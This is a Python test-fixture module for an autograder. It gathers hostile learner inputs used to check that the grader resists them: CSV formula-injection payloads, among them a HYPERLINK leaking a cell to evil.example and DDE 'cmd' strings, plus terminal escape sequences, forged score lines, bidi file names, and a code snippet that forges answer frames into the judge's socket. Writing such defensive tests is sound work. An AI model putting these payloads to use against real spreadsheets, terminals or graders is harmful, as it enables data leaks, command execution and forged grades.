"""Hostile names, text and bytes that learners can put before the grader (issue 23), shared by
tests/test_hostile_names.py, test_hostile_outputs.py and test_hostile_bytes.py.

Each entry was tried against the grader and did harm before issue 23: a formula in the
instructor's spreadsheet, an escape sequence run by the instructor's terminal, a forged score
line, a batch stopped for the whole class, a grader or judge process grown past its memory.
"""

from __future__ import annotations

import os
import re
import unicodedata
from pathlib import Path

from tests.submissions.catalog import MODULES, ROOT

SOLUTIONS = ROOT / "solutions"

# -- learner-controlled text: exception messages, printed output, answers --------------------------
# What a spreadsheet runs as a formula (OWASP, "CSV injection"): a cell that begins with one of these.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXTS = {
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "window_title": "\x1b]0;pwned by a learner\x07",
    "clear_screen": "\x1b[2J\x1b[H",
    "colours": "\x1b[31;1mred\x1b[0m",
    "c1_csi": "\x9b2J",
    "bare_cr": "15\rScore: 100.0 / 100.0",
    "fake_line": "\nScore: 100.0 / 100.0\n",
    "bidi": "\u202etxt.exe",
    "lone_surrogate": "caf\udce9",
}
# Everything at once: what a learner's exception message or printed output carries.
ALL_TEXT = " | ".join(TEXTS.values())

# -- learner names: files and folders a class folder can hold ---------------------------------------
# file name (bytes) -> how the report and the gradebook must show it: the original name, escaped.
# Each holds the reference ex1 (20 points, the other exercises not attempted).
NAMES: dict[bytes, str] = {
    b'=HYPERLINK("evil","click").py': '=HYPERLINK("evil","click").py',
    b"+SUM(1,2).py": "+SUM(1,2).py",
    b"-2+3.py": "-2+3.py",
    b"@SUM(A1).py": "@SUM(A1).py",
    b"\t=1+1.py": "\\t=1+1.py",
    b"\r=1+1.py": "\\r=1+1.py",
    b"\x1b]0;pwned\x07title.py": "\\x1b]0;pwned\\x07title.py",
    b"\x1b[2J\x1b[Hclear.py": "\\x1b[2J\\x1b[Hclear.py",
    b"\x1b[31mred\x1b[0m.py": "\\x1b[31mred\\x1b[0m.py",
    b"fake\rScore: 100.0 of 100.0.py": "fake\\rScore: 100.0 of 100.0.py",
    b"fake\nScore: 100.0 of 100.0.py": "fake\\nScore: 100.0 of 100.0.py",
    b"\xe2\x80\xaebidi.py": "\\u202ebidi.py",
    b"x" * 242 + b".py": "x" * 242 + ".py",  # its report's temporary name passed 255 bytes
    b"caf\xe9.py": "caf\\xe9.py",  # Latin-1, from a zip made on Windows
    b".hidden.py": ".hidden.py",
    b"gradebook.py": "gradebook.py",
    b"summary.py": "summary.py",
    b".grader-seal.py": ".grader-seal.py",
    b"alice.py": "alice.py",  # beside the folder alice/ (FOLDERS)
    b"Nguy\xe1\xbb\x85n V\xc4\x83n An.py": "Nguyễn Văn An.py",  # an ordinary Vietnamese name: kept as it is
}
FOLDERS: dict[bytes, str] = {b"alice": "alice"}  # holds ex1_device.py
# What every learner id must be: printable, not a formula, not hidden, no character a file
# system refuses, short enough for any temporary name beside it, not a class file's name.
RESERVED = {"summary", "gradebook"}
_FORBIDDEN = set('<>:"/\\|?*')


def is_safe_id(learner: str) -> bool:
    return (bool(learner) and learner.isprintable() and not learner.startswith((*FORMULA_STARTS, ".", " "))
            and not learner.endswith((" ", ".")) and not _FORBIDDEN & set(learner)
            and len(learner.encode("utf-8")) <= 100 and learner.casefold() not in RESERVED)


def write_class(folder: Path, names: dict[bytes, str] = NAMES, folders: dict[bytes, str] = FOLDERS) -> None:
    """A class folder holding every hostile name, each with the reference ex1."""
    ex1 = (SOLUTIONS / f"{MODULES['ex1']}.py").read_bytes()
    folder.mkdir(parents=True, exist_ok=True)
    root = os.fsencode(folder)
    for name in names:
        with open(os.path.join(root, name), "wb") as out:
            out.write(ex1)
    for name in folders:
        os.mkdir(os.path.join(root, name))
        with open(os.path.join(root, name, f"{MODULES['ex1']}.py".encode()), "wb") as out:
            out.write(ex1)


# -- what a person's screen must never receive -----------------------------------------------------
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")


def interpreted(text: str, *, allow_cr: bool = False) -> list[str]:
    """Characters a terminal or a viewer would act on rather than show: C0/C1 controls (newline
    and tab aside), format characters (bidi overrides), lone surrogates."""
    found = [repr(c) for c in _CONTROL.findall(text) if not (allow_cr and c == "\r")]
    found += [repr(c) for c in text if unicodedata.category(c) in ("Cf", "Cs")]
    return found


# -- raw frames a learner's code writes into the judge's socket --------------------------------------
# Learner code finds the learner process's own connection (the object answering the judge) and writes
# a frame under the number of the request in flight, so the judge reads it as the answer.
RAW_FRAMES = r'''
import gc, json, os, struct

def _runner():
    for obj in gc.get_objects():
        try:
            conn, seq = getattr(obj, "conn", None), getattr(obj, "_seq", None)
            if type(seq) is int and type(getattr(conn, "fd", None)) is int:
                return obj
        except Exception:
            pass
    raise RuntimeError("no runner found")

def _frame(payload):
    runner = _runner()
    data = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    view = memoryview(struct.pack(">II", len(data), runner._seq) + data)
    while view:
        view = view[os.write(runner.conn.fd, view):]

def _answer(value):
    _frame({"$msg": "Returned", "value": value})
'''
